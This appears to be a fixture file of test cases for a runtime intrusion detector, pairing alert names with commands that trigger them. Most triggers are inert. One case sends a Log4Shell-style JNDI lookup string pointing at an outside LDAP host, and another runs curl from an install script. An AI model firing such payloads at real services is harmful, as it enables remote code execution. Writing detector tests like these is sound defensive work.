## Shell started by a network server
server 'true'
## Shell started by an application in a container
#also Right of root used for the first time by an image
#also Suspicious Process Execution
#in shop:1
node -e 'require("child_process").execSync("true")'
## Interpreter started by a network server in a container
#also Right of root used for the first time by an image
#also Right over the host used by a server's command in a container
#also Suspicious Process Execution
#in shop:1
/usr/sbin/httpd -c 'python3 -c pass; true'
## Shell started by a viewer of documents
#setup shells /usr/bin/evince
evince -c 'sh -c true; true'
## Program run from a removable disk
#setup mkdir -p /media 2>/dev/null; mount -t tmpfs none /media; stubs /media/ann/STICK/setup
/media/ann/STICK/setup
## Download tool started by an install script
sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
## Root login over SSH with a password
#also Login from the internet with a password
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right root; end_log
## Login from the internet with a password
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right ann; end_log
## Attack on a library seen in a log
#setup start_log
#setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
## Server or set-user-id program crashes again and again
#also Service crashes several times
cp /opt/lab/fault /usr/sbin/nginx; nginx forks 20
